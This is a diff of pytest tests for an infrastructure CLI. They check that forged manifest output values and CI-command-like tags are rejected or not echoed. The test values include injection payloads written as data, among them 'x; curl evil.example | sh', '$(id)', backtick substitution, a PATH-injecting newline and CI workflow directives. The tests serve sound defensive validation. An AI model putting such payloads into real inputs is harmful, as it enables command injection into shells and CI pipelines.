@@ -83,6 +83,54 @@ def test_outputs_of_what_is_not_there(two: World, arguments: list[str], code: in
         assert word in answer.err
 
 
+@pytest.mark.parametrize(
+    "value",
+    [
+        "a.example\nPATH=/tmp",
+        "x; curl evil.example | sh",
+        "$(id)",
+        "`id`",
+        "a b",
+        "",
+        "::set-output::x y",
+        "a\x1b[2J",
+        "ä",
+    ],
+)
+@pytest.mark.parametrize("name", ["cluster_endpoint", None])
+def test_a_forged_output_is_not_handed_to_a_script(record: World, value: str, name: str | None) -> None:
+    forged = record.manifest()
+    forged["entries"]["db-cluster/db-cluster-dev"]["outputs"]["endpoint"] = value
+    record.path().write_text(json.dumps(forged))
+    answer = record.tapctl("outputs", *filter(None, [name]), "--env", "dev")
+    assert (answer.code, answer.out) == (3, "")
+    assert "cluster_endpoint = " in answer.err
+    assert all(line.isprintable() for line in answer.err.splitlines())
+
+
+def test_outputs_that_the_record_lacks_are_left_out(record: World) -> None:
+    forged = record.manifest()
+    del forged["entries"]["db-cluster/db-cluster-dev"]["outputs"]["endpoint"]
+    del forged["entries"]["security-group/db-sg-dev"]["outputs"]["group_id"]
+    record.path().write_text(json.dumps(forged))
+    answer = record.tapctl("outputs", "--env", "dev")
+    assert answer.code == 0
+    assert "cluster_arn=" in answer.out
+    assert "cluster_endpoint=" not in answer.out
+    assert "db_security_group_id=" not in answer.out
+
+
+def test_a_record_that_speaks_to_a_ci_system_is_shown_as_the_same_json_without_speaking(record: World) -> None:
+    forged = record.manifest()
+    forged["entries"]["sns-topic/alarms-dev"]["spec"]["tags"]["a"] = "##vso[task.x]\n::error::y"
+    record.path().write_text(json.dumps(forged))
+    for flags in ([], ["--json"]):
+        answer = record.tapctl("manifest", "show", "--env", "dev", *flags)
+        assert "##vso" not in answer.out
+        document = answer.of_type("document")[0] if flags else json.loads(answer.out)
+        assert document["entries"] == forged["entries"]
+
+
 def test_status_is_one_row_an_environment(two: World) -> None:
     answer = two.tapctl("status")
     assert (answer.code, answer.changes) == (0, ())
